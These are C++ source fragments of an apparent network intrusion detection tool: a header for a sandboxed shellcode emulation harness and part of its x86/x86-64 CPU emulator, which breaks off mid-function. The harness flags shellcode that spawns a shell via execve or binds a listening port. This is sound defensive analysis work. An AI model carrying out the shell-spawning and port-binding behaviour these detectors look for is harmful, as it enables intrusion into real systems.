  void write_reg(x86::Reg r, std::uint32_t v);
  [[nodiscard]] std::uint32_t mem_addr(const x86::MemRef& m) const;
  std::optional<std::uint32_t> read_operand(const x86::Operand& op, unsigned bits);
  bool write_operand(const x86::Operand& op, unsigned bits, std::uint32_t v);
  std::optional<std::uint32_t> load(std::uint32_t addr, unsigned bits);
  bool store(std::uint32_t addr, unsigned bits, std::uint32_t v);

  void set_logic_flags(std::uint32_t result, unsigned bits);
  void set_add_flags(std::uint32_t a, std::uint32_t b, std::uint64_t wide, unsigned bits);
  void set_sub_flags(std::uint32_t a, std::uint32_t b, unsigned bits);
  [[nodiscard]] bool cond_holds(x86::Cond c) const;

  /// Execute one instruction; updates eip_ and stop_.
  void step(const SyscallHook& hook);

  VirtualMemory& mem_;
  std::array<std::uint32_t, 8> regs_{};
  std::uint32_t eip_;
  Flags flags_;
  std::size_t steps_ = 0;
  std::uint32_t last_fpu_va_ = 0;  // FIP recorded by the last FPU instruction
  StopReason stop_ = StopReason::kRunning;
};

}  // namespace senids::emu
