// Shellcode emulation harness (libemu-style dynamic analysis): run a
// binary frame in the sandboxed CPU, let any decoder decrypt itself, and
// report (a) the observed syscall behaviour and (b) the decoded frame for
// a second static-analysis pass. This extends the paper's static
// pipeline with the dynamic capability its future-work section points
// toward; DESIGN.md documents the substitution (IDA Pro + manual
// inspection -> automatic emulation).
#pragma once

#include <string>
#include <vector>

#include "emu/cpu.hpp"

namespace senids::emu {

struct EmulatedSyscall {
  /// Interrupt vector (0x80 for Linux i386) or the 64-bit convention's
  /// vector (0x100) for the x86-64 `syscall` instruction.
  std::uint16_t vector = 0;
  /// Normalized register view: for int 0x80 these are eax/ebx/ecx/edx;
  /// for `syscall` they are the low halves of rax/rdi/rsi/rdx (number and
  /// first three arguments under either convention).
  std::uint32_t eax = 0;
  std::uint32_t ebx = 0;
  std::uint32_t ecx = 0;
  std::uint32_t edx = 0;
  /// NUL-terminated string at the first argument register (ebx or rdi),
  /// when it points into the sandbox (e.g. the execve path).
  std::string ebx_string;
};

struct EmulationResult {
  StopReason stop = StopReason::kRunning;
  std::size_t steps = 0;
  std::size_t entry = 0;                 // frame offset emulation started at
  std::size_t frame_bytes_modified = 0;  // self-modification volume
  std::vector<EmulatedSyscall> syscalls;
  /// Frame with all self-modifications applied; meaningful when
  /// frame_bytes_modified > 0.
  util::Bytes decoded_frame;

  /// execve("/bin/..") observed (i386 sys 11 or x86-64 sys 59).
  [[nodiscard]] bool spawned_shell() const;
  /// socket/bind/listen sequence observed (i386 socketcall or the direct
  /// x86-64 syscalls).
  [[nodiscard]] bool bound_port() const;
  /// Any Linux syscall (int 0x80 or x86-64 `syscall`) observed.
  [[nodiscard]] bool made_syscall() const;
};

struct EmulatorOptions {
  std::size_t max_steps = 100000;
  std::size_t max_syscalls = 16;
  std::size_t max_entries = 64;   // candidate entry points tried per frame
  std::size_t min_run_insns = 6;  // candidate threshold (as in the analyzer)
  /// Instruction-set rules the sandbox decodes and executes under.
  arch::Mode mode = arch::Mode::k32;
};

/// Emulate from one specific entry offset.
EmulationResult emulate_entry(util::ByteView frame, std::size_t entry,
                              const EmulatorOptions& options = {});

/// Try candidate entries (decode-run starts, longest first) and return
/// the most revealing result: syscalls observed > self-modification >
/// longest run.
EmulationResult emulate_frame(util::ByteView frame, const EmulatorOptions& options = {});

}  // namespace senids::emu
