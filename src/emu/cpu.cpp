#include "emu/cpu.hpp"

#include <bit>
#include <memory>

#include "arch/arch.hpp"

namespace senids::emu {

using arch::Cond;
using arch::Instruction;
using arch::MemRef;
using arch::Mnemonic;
using arch::Mode;
using arch::Operand;
using arch::OperandKind;
using arch::Reg;
using arch::RegFamily;
using arch::RegWidth;

std::string_view stop_reason_name(StopReason r) noexcept {
  switch (r) {
    case StopReason::kRunning: return "running";
    case StopReason::kMaxSteps: return "max-steps";
    case StopReason::kInvalidInsn: return "invalid-instruction";
    case StopReason::kUnmappedFetch: return "unmapped-fetch";
    case StopReason::kUnmappedAccess: return "unmapped-access";
    case StopReason::kUnsupported: return "unsupported-instruction";
    case StopReason::kHalted: return "halted";
    case StopReason::kSyscallStop: return "syscall-stop";
    case StopReason::kDivByZero: return "divide-by-zero";
  }
  return "?";
}

namespace {

std::uint64_t mask_of(unsigned bits) {
  return bits >= 64 ? ~0ull : ((1ull << bits) - 1);
}

/// Operand width in bits, given the instruction context.
unsigned op_bits(const Instruction& insn, const Operand& op) {
  switch (op.kind) {
    case OperandKind::kReg:
      return width_bits(op.reg.width);
    case OperandKind::kMem:
      return width_bits(op.mem.width);
    default:
      return width_bits(insn.op_width);
  }
}

bool parity_even(std::uint64_t v) {
  return (std::popcount(static_cast<std::uint32_t>(v & 0xff)) % 2) == 0;
}

struct AddResult {
  std::uint64_t value = 0;
  bool carry = false;
};

/// High 64 bits of a 64x64 -> 128 unsigned multiply, via 32-bit halves
/// (portable: no __int128).
std::uint64_t umul_hi(std::uint64_t a, std::uint64_t b) {
  const std::uint64_t a_lo = a & 0xffffffffull, a_hi = a >> 32;
  const std::uint64_t b_lo = b & 0xffffffffull, b_hi = b >> 32;
  const std::uint64_t mid1 = a_hi * b_lo + ((a_lo * b_lo) >> 32);
  const std::uint64_t mid2 = a_lo * b_hi + (mid1 & 0xffffffffull);
  return a_hi * b_hi + (mid1 >> 32) + (mid2 >> 32);
}

/// 128/64 -> 64 unsigned division of hi:lo by d, shift-subtract. The
/// caller guarantees hi < d (no quotient overflow) and d != 0.
struct DivResult {
  std::uint64_t quot = 0;
  std::uint64_t rem = 0;
};
DivResult udiv128(std::uint64_t hi, std::uint64_t lo, std::uint64_t d) {
  DivResult r;
  std::uint64_t rem = hi;
  for (int i = 63; i >= 0; --i) {
    const std::uint64_t carry = rem >> 63;  // bit shifted out of rem
    rem = (rem << 1) | ((lo >> i) & 1);
    if (carry || rem >= d) {
      rem -= d;
      r.quot |= 1ull << i;
    }
  }
  r.rem = rem;
  return r;
}

/// a + b + cin at the given width, with the carry-out (the 2^bits bit).
AddResult add_with_carry(std::uint64_t a, std::uint64_t b, bool cin, unsigned bits) {
  const std::uint64_t m = mask_of(bits);
  a &= m;
  b &= m;
  AddResult r;
  if (bits >= 64) {
    r.value = a + b + (cin ? 1 : 0);
    r.carry = cin ? r.value <= a : r.value < a;
  } else {
    const std::uint64_t wide = a + b + (cin ? 1 : 0);
    r.value = wide & m;
    r.carry = (wide >> bits) != 0;
  }
  return r;
}

}  // namespace

Cpu::Cpu(VirtualMemory& mem, std::uint32_t entry_va, Mode mode)
    : mem_(mem), mode_(mode), eip_(entry_va) {
  regs_[static_cast<unsigned>(RegFamily::kSp)] = kStackTop - 0x1000;
}

std::uint64_t Cpu::read_reg(Reg r) const {
  const std::uint64_t full = regs_[static_cast<unsigned>(r.family)];
  switch (r.width) {
    case RegWidth::k64: return full;
    case RegWidth::k32: return full & 0xffffffffu;
    case RegWidth::k16: return full & 0xffff;
    case RegWidth::k8Lo: return full & 0xff;
    case RegWidth::k8Hi: return (full >> 8) & 0xff;
  }
  return full;
}

void Cpu::write_reg(Reg r, std::uint64_t v) {
  std::uint64_t& full = regs_[static_cast<unsigned>(r.family)];
  switch (r.width) {
    case RegWidth::k64: full = v; break;
    // A 32-bit write zero-extends to 64 on x86-64; in 32-bit mode the
    // upper half is never observable.
    case RegWidth::k32: full = v & 0xffffffffu; break;
    case RegWidth::k16: full = (full & ~0xffffull) | (v & 0xffff); break;
    case RegWidth::k8Lo: full = (full & ~0xffull) | (v & 0xff); break;
    case RegWidth::k8Hi: full = (full & ~0xff00ull) | ((v & 0xff) << 8); break;
  }
}

std::uint64_t Cpu::mem_addr(const MemRef& m) const {
  if (m.rip) {
    // RIP-relative: end of the current instruction plus displacement.
    return cur_insn_end_ + static_cast<std::uint64_t>(static_cast<std::int64_t>(m.disp));
  }
  std::uint64_t addr = static_cast<std::uint64_t>(static_cast<std::int64_t>(m.disp));
  if (m.base) addr += regs_[static_cast<unsigned>(m.base->family)];
  if (m.index) addr += regs_[static_cast<unsigned>(m.index->family)] * m.scale;
  if (mode_ == Mode::k32) addr &= 0xffffffffu;  // IA-32 address wraparound
  return addr;
}

std::optional<std::uint64_t> Cpu::load(std::uint64_t addr, unsigned bits) {
  // VirtualMemory is 32-bit addressed; long-mode accesses above 4 GiB fault.
  if (addr > 0xffffffffull || addr + bits / 8 - 1 > 0xffffffffull) {
    stop_ = StopReason::kUnmappedAccess;
    return std::nullopt;
  }
  const std::uint32_t a32 = static_cast<std::uint32_t>(addr);
  std::optional<std::uint64_t> v;
  switch (bits) {
    case 8: {
      auto b = mem_.read8(a32);
      if (b) v = *b;
      break;
    }
    case 16: {
      auto b = mem_.read16(a32);
      if (b) v = *b;
      break;
    }
    case 64: {
      auto lo = mem_.read32(a32);
      auto hi = mem_.read32(a32 + 4);
      if (lo && hi) {
        v = static_cast<std::uint64_t>(*lo) | (static_cast<std::uint64_t>(*hi) << 32);
      }
      break;
    }
    default: {
      auto b = mem_.read32(a32);
      if (b) v = *b;
      break;
    }
  }
  if (!v) stop_ = StopReason::kUnmappedAccess;
  return v;
}

bool Cpu::store(std::uint64_t addr, unsigned bits, std::uint64_t v) {
  if (addr > 0xffffffffull || addr + bits / 8 - 1 > 0xffffffffull) {
    stop_ = StopReason::kUnmappedAccess;
    return false;
  }
  const std::uint32_t a32 = static_cast<std::uint32_t>(addr);
  bool ok;
  switch (bits) {
    case 8: ok = mem_.write8(a32, static_cast<std::uint8_t>(v)); break;
    case 16: ok = mem_.write16(a32, static_cast<std::uint16_t>(v)); break;
    case 64:
      ok = mem_.write32(a32, static_cast<std::uint32_t>(v)) &&
           mem_.write32(a32 + 4, static_cast<std::uint32_t>(v >> 32));
      break;
    default: ok = mem_.write32(a32, static_cast<std::uint32_t>(v)); break;
  }
  if (!ok) stop_ = StopReason::kUnmappedAccess;
  return ok;
}

std::optional<std::uint64_t> Cpu::read_operand(const Operand& op, unsigned bits) {
  switch (op.kind) {
    case OperandKind::kReg:
      return read_reg(op.reg);
    case OperandKind::kImm:
    case OperandKind::kRel:
      return static_cast<std::uint64_t>(op.imm) & mask_of(bits);
    case OperandKind::kMem:
      return load(mem_addr(op.mem), bits);
    case OperandKind::kNone:
      return 0;
  }
  return 0;
}

bool Cpu::write_operand(const Operand& op, unsigned bits, std::uint64_t v) {
  if (op.kind == OperandKind::kReg) {
    write_reg(op.reg, v);
    return true;
  }
  if (op.kind == OperandKind::kMem) {
    return store(mem_addr(op.mem), bits, v);
  }
  return true;
}

void Cpu::set_logic_flags(std::uint64_t result, unsigned bits) {
  result &= mask_of(bits);
  flags_.cf = false;
  flags_.of = false;
  flags_.zf = result == 0;
  flags_.sf = (result >> (bits - 1)) & 1;
  flags_.pf = parity_even(result);
}

void Cpu::set_add_flags(std::uint64_t a, std::uint64_t b, std::uint64_t result,
                        bool carry, unsigned bits) {
  result &= mask_of(bits);
  flags_.cf = carry;
  flags_.zf = result == 0;
  flags_.sf = (result >> (bits - 1)) & 1;
  flags_.of = (((a ^ result) & (b ^ result)) >> (bits - 1)) & 1;
  flags_.pf = parity_even(result);
}

void Cpu::set_sub_flags(std::uint64_t a, std::uint64_t b, unsigned bits) {
  const std::uint64_t m = mask_of(bits);
  a &= m;
  b &= m;
  const std::uint64_t result = (a - b) & m;
  flags_.cf = a < b;
  flags_.zf = result == 0;
  flags_.sf = (result >> (bits - 1)) & 1;
  flags_.of = (((a ^ b) & (a ^ result)) >> (bits - 1)) & 1;
  flags_.pf = parity_even(result);
}

bool Cpu::cond_holds(Cond c) const {
  switch (c) {
    case Cond::kO: return flags_.of;
    case Cond::kNo: return !flags_.of;
    case Cond::kB: return flags_.cf;
    case Cond::kAe: return !flags_.cf;
    case Cond::kE: return flags_.zf;
    case Cond::kNe: return !flags_.zf;
    case Cond::kBe: return flags_.cf || flags_.zf;
    case Cond::kA: return !flags_.cf && !flags_.zf;
    case Cond::kS: return flags_.sf;
    case Cond::kNs: return !flags_.sf;
    case Cond::kP: return flags_.pf;
    case Cond::kNp: return !flags_.pf;
    case Cond::kL: return flags_.sf != flags_.of;
    case Cond::kGe: return flags_.sf == flags_.of;
    case Cond::kLe: return flags_.zf || (flags_.sf != flags_.of);
    case Cond::kG: return !flags_.zf && flags_.sf == flags_.of;
  }
  return false;
}

StopReason Cpu::run(std::size_t max_steps, const SyscallHook& hook) {
  stop_ = StopReason::kRunning;
  while (stop_ == StopReason::kRunning) {
    if (steps_ >= max_steps) {
      stop_ = StopReason::kMaxSteps;
      break;
    }
    ++steps_;
    step(hook);
  }
  return stop_;
}

void Cpu::step(const SyscallHook& hook) {
  const std::uint64_t va_mask = mode_ == Mode::k64 ? ~0ull : 0xffffffffull;
  // Fetch a decode window through the MMU.
  std::uint8_t window[15];
  std::size_t avail = 0;
  for (; avail < sizeof window; ++avail) {
    const std::uint64_t fetch_va = (eip_ + avail) & va_mask;
    if (fetch_va > 0xffffffffull) break;
    auto b = mem_.read8(static_cast<std::uint32_t>(fetch_va));
    if (!b) break;
    window[avail] = *b;
  }
  if (avail == 0) {
    stop_ = StopReason::kUnmappedFetch;
    return;
  }
  const Instruction insn = arch::decode(util::ByteView(window, avail), 0, mode_);
  if (!insn.valid()) {
    stop_ = StopReason::kInvalidInsn;
    return;
  }
  const std::uint64_t next_eip = (eip_ + insn.length) & va_mask;
  cur_insn_end_ = next_eip;
  // Relative targets were resolved within the fetch window (whose base is
  // eip_), so the flat sum recovers the virtual target.
  const auto branch_va = [&]() {
    return (eip_ + static_cast<std::uint64_t>(insn.ops[0].imm)) & va_mask;
  };

  // Stack operations use the architecture's native width: dword pushes in
  // IA-32, qword pushes (stride 8) in long mode.
  const unsigned stack_bits = mode_ == Mode::k64 ? 64 : 32;
  auto push_native = [&](std::uint64_t v) {
    std::uint64_t& esp = regs_[static_cast<unsigned>(RegFamily::kSp)];
    esp = (esp - stack_bits / 8) & va_mask;
    return store(esp, stack_bits, v);
  };
  auto pop_native = [&]() -> std::optional<std::uint64_t> {
    std::uint64_t& esp = regs_[static_cast<unsigned>(RegFamily::kSp)];
    auto v = load(esp, stack_bits);
    if (v) esp = (esp + stack_bits / 8) & va_mask;
    return v;
  };

  const Operand& op0 = insn.ops[0];
  const Operand& op1 = insn.ops[1];
  std::uint64_t new_eip = next_eip;

  switch (insn.mnemonic) {
    // ----------------------------------------------------------- moves
    case Mnemonic::kMov:
    case Mnemonic::kMovzx: {
      const unsigned src_bits = op_bits(insn, op1);
      auto v = read_operand(op1, src_bits);
      if (!v) return;
      write_operand(op0, op_bits(insn, op0), *v);
      break;
    }
    case Mnemonic::kMovsx: {
      const unsigned src_bits = op_bits(insn, op1);
      auto v = read_operand(op1, src_bits);
      if (!v) return;
      std::uint64_t x = *v;
      if (src_bits < 64 && (x >> (src_bits - 1)) & 1) x |= ~mask_of(src_bits);
      write_operand(op0, op_bits(insn, op0), x);
      break;
    }
    case Mnemonic::kLea:
      write_operand(op0, op_bits(insn, op0), mem_addr(op1.mem));
      break;
    case Mnemonic::kXchg: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto b = read_operand(op1, bits);
      if (!a || !b) return;
      if (!write_operand(op0, bits, *b)) return;
      write_operand(op1, bits, *a);
      break;
    }

    // ------------------------------------------------------------- ALU
    case Mnemonic::kAdd:
    case Mnemonic::kAdc: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto b = read_operand(op1, bits);
      if (!a || !b) return;
      const bool cin = insn.mnemonic == Mnemonic::kAdc && flags_.cf;
      const AddResult r = add_with_carry(*a, *b, cin, bits);
      set_add_flags(*a, *b, r.value, r.carry, bits);
      write_operand(op0, bits, r.value);
      break;
    }
    case Mnemonic::kSub:
    case Mnemonic::kSbb: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto b = read_operand(op1, bits);
      if (!a || !b) return;
      const std::uint64_t borrow = insn.mnemonic == Mnemonic::kSbb && flags_.cf ? 1 : 0;
      const std::uint64_t rhs = (*b + borrow) & mask_of(bits);
      set_sub_flags(*a, rhs, bits);
      write_operand(op0, bits, (*a - rhs) & mask_of(bits));
      break;
    }
    case Mnemonic::kCmp: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto b = read_operand(op1, bits);
      if (!a || !b) return;
      set_sub_flags(*a, *b, bits);
      break;
    }
    case Mnemonic::kAnd:
    case Mnemonic::kOr:
    case Mnemonic::kXor:
    case Mnemonic::kTest: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto b = read_operand(op1, bits);
      if (!a || !b) return;
      std::uint64_t r;
      switch (insn.mnemonic) {
        case Mnemonic::kAnd:
        case Mnemonic::kTest: r = *a & *b; break;
        case Mnemonic::kOr: r = *a | *b; break;
        default: r = *a ^ *b; break;
      }
      set_logic_flags(r, bits);
      if (insn.mnemonic != Mnemonic::kTest) write_operand(op0, bits, r & mask_of(bits));
      break;
    }
    case Mnemonic::kInc:
    case Mnemonic::kDec: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      if (!a) return;
      const bool saved_cf = flags_.cf;  // inc/dec leave CF untouched
      if (insn.mnemonic == Mnemonic::kInc) {
        const AddResult r = add_with_carry(*a, 1, false, bits);
        set_add_flags(*a, 1, r.value, r.carry, bits);
        write_operand(op0, bits, r.value);
      } else {
        set_sub_flags(*a, 1, bits);
        write_operand(op0, bits, (*a - 1) & mask_of(bits));
      }
      flags_.cf = saved_cf;
      break;
    }
    case Mnemonic::kNot: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      if (!a) return;
      write_operand(op0, bits, ~*a & mask_of(bits));
      break;
    }
    case Mnemonic::kNeg: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      if (!a) return;
      set_sub_flags(0, *a, bits);
      write_operand(op0, bits, (0ull - *a) & mask_of(bits));
      break;
    }

    // ---------------------------------------------------------- shifts
    case Mnemonic::kShl:
    case Mnemonic::kShr:
    case Mnemonic::kSar:
    case Mnemonic::kRol:
    case Mnemonic::kRor:
    case Mnemonic::kRcl:
    case Mnemonic::kRcr: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto cnt = read_operand(op1, 8);
      if (!a || !cnt) return;
      // Hardware masks the count to 5 bits, or 6 for 64-bit operands.
      const unsigned n = *cnt & (bits == 64 ? 63 : 31);
      std::uint64_t x = *a & mask_of(bits);
      if (n != 0) {
        switch (insn.mnemonic) {
          case Mnemonic::kShl:
            flags_.cf = n <= bits && ((x >> (bits - n)) & 1);
            x = (n < 64) ? (x << n) : 0;
            break;
          case Mnemonic::kShr:
            flags_.cf = (x >> (n - 1)) & 1;
            x = (n < 64) ? (x >> n) : 0;
            break;
          case Mnemonic::kSar: {
            std::int64_t s = static_cast<std::int64_t>(
                x << (64 - bits));  // sign-position align
            s >>= (64 - bits);      // sign-extend to 64
            flags_.cf = (static_cast<std::uint64_t>(s) >> (n - 1)) & 1;
            s >>= (n < 63 ? n : 63);
            x = static_cast<std::uint64_t>(s);
            break;
          }
          case Mnemonic::kRol: {
            const unsigned r = n % bits;
            if (r) x = ((x << r) | (x >> (bits - r)));
            flags_.cf = x & 1;
            break;
          }
          case Mnemonic::kRor: {
            const unsigned r = n % bits;
            if (r) x = ((x >> r) | (x << (bits - r)));
            flags_.cf = (x >> (bits - 1)) & 1;
            break;
          }
          case Mnemonic::kRcl:
          case Mnemonic::kRcr: {
            // Rotate through carry, one bit at a time (counts are tiny).
            for (unsigned i = 0; i < n; ++i) {
              if (insn.mnemonic == Mnemonic::kRcl) {
                const bool msb = (x >> (bits - 1)) & 1;
                x = (x << 1) | (flags_.cf ? 1 : 0);
                flags_.cf = msb;
              } else {
                const bool lsb = x & 1;
                x = (x >> 1) | ((flags_.cf ? 1ull : 0ull) << (bits - 1));
                flags_.cf = lsb;
              }
            }
            break;
          }
          default:
            break;
        }
        x &= mask_of(bits);
        flags_.zf = x == 0;
        flags_.sf = (x >> (bits - 1)) & 1;
        flags_.pf = parity_even(x);
      }
      write_operand(op0, bits, x);
      break;
    }
    case Mnemonic::kShld:
    case Mnemonic::kShrd: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto b = read_operand(op1, bits);
      auto cnt = read_operand(insn.ops[2], 8);
      if (!a || !b || !cnt) return;
      const unsigned n = *cnt & (bits == 64 ? 63 : 31);
      std::uint64_t x = *a;
      if (n != 0 && n < bits) {
        x = insn.mnemonic == Mnemonic::kShld ? ((*a << n) | (*b >> (bits - n)))
                                             : ((*a >> n) | (*b << (bits - n)));
      }
      set_logic_flags(x, bits);
      write_operand(op0, bits, x & mask_of(bits));
      break;
    }

    // ------------------------------------------------------- mul / div
    case Mnemonic::kMul:
    case Mnemonic::kImul: {
      if (op1.kind != OperandKind::kNone) {  // two/three operand imul
        const unsigned bits = op_bits(insn, op0);
        auto a = insn.ops[2].kind != OperandKind::kNone ? read_operand(op1, bits)
                                                        : read_operand(op0, bits);
        auto b = insn.ops[2].kind != OperandKind::kNone ? read_operand(insn.ops[2], bits)
                                                        : read_operand(op1, bits);
        if (!a || !b) return;
        write_operand(op0, bits, (*a * *b) & mask_of(bits));
        break;
      }
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      if (!a) return;
      if (bits == 64) {
        const std::uint64_t lo = regs_[0] * (*a);
        regs_[static_cast<unsigned>(RegFamily::kDx)] = umul_hi(regs_[0], *a);
        regs_[static_cast<unsigned>(RegFamily::kAx)] = lo;
        break;
      }
      const std::uint64_t wide = (regs_[0] & mask_of(bits)) * (*a & mask_of(bits));
      if (bits == 32) {
        regs_[static_cast<unsigned>(RegFamily::kAx)] = static_cast<std::uint32_t>(wide);
        regs_[static_cast<unsigned>(RegFamily::kDx)] =
            static_cast<std::uint32_t>(wide >> 32);
      } else {
        write_reg(Reg{RegFamily::kAx, RegWidth::k16},
                  static_cast<std::uint32_t>(wide) & 0xffff);
      }
      break;
    }
    case Mnemonic::kDiv:
    case Mnemonic::kIdiv: {
      const unsigned bits = op_bits(insn, op0);
      auto d = read_operand(op0, bits);
      if (!d) return;
      if ((*d & mask_of(bits)) == 0) {
        stop_ = StopReason::kDivByZero;
        return;
      }
      if (bits == 64) {
        const std::uint64_t hi = regs_[static_cast<unsigned>(RegFamily::kDx)];
        const std::uint64_t lo = regs_[static_cast<unsigned>(RegFamily::kAx)];
        if (hi >= *d) {
          stop_ = StopReason::kDivByZero;  // quotient overflow faults too
          return;
        }
        const DivResult r = udiv128(hi, lo, *d);
        regs_[static_cast<unsigned>(RegFamily::kAx)] = r.quot;
        regs_[static_cast<unsigned>(RegFamily::kDx)] = r.rem;
      } else if (bits == 32) {
        const std::uint64_t num =
            ((regs_[static_cast<unsigned>(RegFamily::kDx)] & 0xffffffffull) << 32) |
            (regs_[static_cast<unsigned>(RegFamily::kAx)] & 0xffffffffull);
        const std::uint64_t q = num / *d;
        if (q > 0xffffffffull) {
          stop_ = StopReason::kDivByZero;  // quotient overflow faults too
          return;
        }
        regs_[static_cast<unsigned>(RegFamily::kAx)] = static_cast<std::uint32_t>(q);
        regs_[static_cast<unsigned>(RegFamily::kDx)] =
            static_cast<std::uint32_t>(num % *d);
      } else {
        const std::uint64_t num = regs_[static_cast<unsigned>(RegFamily::kAx)] &
                                  (bits == 16 ? 0xffffffffull : 0xffffull);
        write_reg(Reg{RegFamily::kAx, RegWidth::k16}, (num / *d) & 0xffff);
      }
      break;
    }
    case Mnemonic::kCwde: {
      if (insn.mode == Mode::k64 && insn.prefixes.rex_w) {  // cdqe
        std::uint64_t ax = regs_[0] & 0xffffffffull;
        if (ax & 0x80000000ull) ax |= 0xffffffff00000000ull;
        regs_[static_cast<unsigned>(RegFamily::kAx)] = ax;
        break;
      }
      std::uint64_t ax = regs_[0] & 0xffff;
      if (ax & 0x8000) ax |= 0xffff0000ull;
      regs_[static_cast<unsigned>(RegFamily::kAx)] = ax;
      break;
    }
    case Mnemonic::kCdq:
      if (insn.mode == Mode::k64 && insn.prefixes.rex_w) {  // cqo
        regs_[static_cast<unsigned>(RegFamily::kDx)] =
            (regs_[0] & 0x8000000000000000ull) ? ~0ull : 0;
        break;
      }
      regs_[static_cast<unsigned>(RegFamily::kDx)] =
          (regs_[0] & 0x80000000ull) ? 0xffffffffull : 0;
      break;

    // ------------------------------------------------------------ stack
    case Mnemonic::kPush: {
      std::uint64_t v = 0;
      if (op0.kind != OperandKind::kNone) {
        auto r = read_operand(op0, stack_bits);
        if (!r) return;
        v = *r;
      }
      if (!push_native(v)) return;
      break;
    }
    case Mnemonic::kPop: {
      auto v = pop_native();
      if (!v) return;
      if (op0.kind != OperandKind::kNone) write_operand(op0, stack_bits, *v);
      break;
    }
    case Mnemonic::kPushf:
      if (!push_native((flags_.cf ? 1u : 0) | (flags_.pf ? 4u : 0) |
                       (flags_.zf ? 0x40u : 0) | (flags_.sf ? 0x80u : 0) |
                       (flags_.df ? 0x400u : 0) | (flags_.of ? 0x800u : 0))) {
        return;
      }
      break;
    case Mnemonic::kPopf: {
      auto v = pop_native();
      if (!v) return;
      flags_.cf = *v & 1;
      flags_.pf = *v & 4;
      flags_.zf = *v & 0x40;
      flags_.sf = *v & 0x80;
      flags_.df = *v & 0x400;
      flags_.of = *v & 0x800;
      break;
    }
    case Mnemonic::kPusha: {  // IA-32 only; invalid encoding in long mode
      const std::uint64_t saved_esp = regs_[static_cast<unsigned>(RegFamily::kSp)];
      for (unsigned f = 0; f < 8; ++f) {
        if (!push_native(f == static_cast<unsigned>(RegFamily::kSp) ? saved_esp
                                                                    : regs_[f])) {
          return;
        }
      }
      break;
    }
    case Mnemonic::kPopa:
      for (int f = 7; f >= 0; --f) {
        auto v = pop_native();
        if (!v) return;
        if (f != static_cast<int>(RegFamily::kSp)) regs_[static_cast<unsigned>(f)] = *v;
      }
      break;
    case Mnemonic::kLeave: {
      regs_[static_cast<unsigned>(RegFamily::kSp)] =
          regs_[static_cast<unsigned>(RegFamily::kBp)];
      auto v = pop_native();
      if (!v) return;
      regs_[static_cast<unsigned>(RegFamily::kBp)] = *v;
      break;
    }
    case Mnemonic::kEnter: {
      if (!push_native(regs_[static_cast<unsigned>(RegFamily::kBp)])) return;
      regs_[static_cast<unsigned>(RegFamily::kBp)] =
          regs_[static_cast<unsigned>(RegFamily::kSp)];
      regs_[static_cast<unsigned>(RegFamily::kSp)] -=
          static_cast<std::uint64_t>(static_cast<std::uint32_t>(op0.imm));
      break;
    }

    // ----------------------------------------------------- control flow
    case Mnemonic::kJmp:
      if (op0.kind == OperandKind::kRel) {
        new_eip = branch_va();
      } else {
        auto v = read_operand(op0, stack_bits);
        if (!v) return;
        new_eip = *v & va_mask;
      }
      break;
    case Mnemonic::kJcc:
      if (cond_holds(insn.cond)) new_eip = branch_va();
      break;
    case Mnemonic::kJecxz:
      if ((regs_[static_cast<unsigned>(RegFamily::kCx)] & va_mask) == 0) {
        new_eip = branch_va();
      }
      break;
    case Mnemonic::kLoop:
    case Mnemonic::kLoope:
    case Mnemonic::kLoopne: {
      std::uint64_t& ecx = regs_[static_cast<unsigned>(RegFamily::kCx)];
      --ecx;
      bool taken = (ecx & va_mask) != 0;
      if (insn.mnemonic == Mnemonic::kLoope) taken = taken && flags_.zf;
      if (insn.mnemonic == Mnemonic::kLoopne) taken = taken && !flags_.zf;
      if (taken) new_eip = branch_va();
      break;
    }
    case Mnemonic::kCall: {
      std::uint64_t target;
      if (op0.kind == OperandKind::kRel) {
        target = branch_va();
      } else {
        auto v = read_operand(op0, stack_bits);
        if (!v) return;
        target = *v & va_mask;
      }
      if (!push_native(next_eip)) return;
      new_eip = target;
      break;
    }
    case Mnemonic::kRet: {
      auto v = pop_native();
      if (!v) return;
      if (op0.kind == OperandKind::kImm) {
        regs_[static_cast<unsigned>(RegFamily::kSp)] +=
            static_cast<std::uint64_t>(static_cast<std::uint32_t>(op0.imm));
      }
      new_eip = *v & va_mask;
      break;
    }

    case Mnemonic::kInt: {
      SyscallRecord rec;
      rec.vector = static_cast<std::uint16_t>(static_cast<std::uint8_t>(op0.imm));
      rec.regs = regs_;
      rec.step = steps_;
      std::optional<std::uint32_t> ret = hook ? hook(rec) : std::nullopt;
      if (!ret) {
        stop_ = StopReason::kSyscallStop;
        return;
      }
      regs_[static_cast<unsigned>(RegFamily::kAx)] = *ret;
      break;
    }
    case Mnemonic::kSyscall: {
      // x86-64 `syscall`: record under the 64-bit convention's vector.
      SyscallRecord rec;
      rec.vector = arch::Arch::x86_64().syscall_conventions()[0].vector;
      rec.regs = regs_;
      rec.step = steps_;
      std::optional<std::uint32_t> ret = hook ? hook(rec) : std::nullopt;
      if (!ret) {
        stop_ = StopReason::kSyscallStop;
        return;
      }
      regs_[static_cast<unsigned>(RegFamily::kAx)] = *ret;
      // Hardware clobbers rcx (return rip) and r11 (rflags).
      regs_[static_cast<unsigned>(RegFamily::kCx)] = next_eip;
      regs_[static_cast<unsigned>(RegFamily::kR11)] = 0x202;
      break;
    }

    // -------------------------------------------------------- string ops
    case Mnemonic::kMovs:
    case Mnemonic::kStos:
    case Mnemonic::kLods:
    case Mnemonic::kScas:
    case Mnemonic::kCmps: {
      std::uint64_t& ecx = regs_[static_cast<unsigned>(RegFamily::kCx)];
      const bool rep = insn.prefixes.rep || insn.prefixes.repne;
      if (rep && (ecx & va_mask) == 0) break;  // finished: fall through
      const unsigned bits = width_bits(insn.op_width);
      const std::uint64_t delta = flags_.df ? 0ull - bits / 8 : bits / 8;
      std::uint64_t& esi = regs_[static_cast<unsigned>(RegFamily::kSi)];
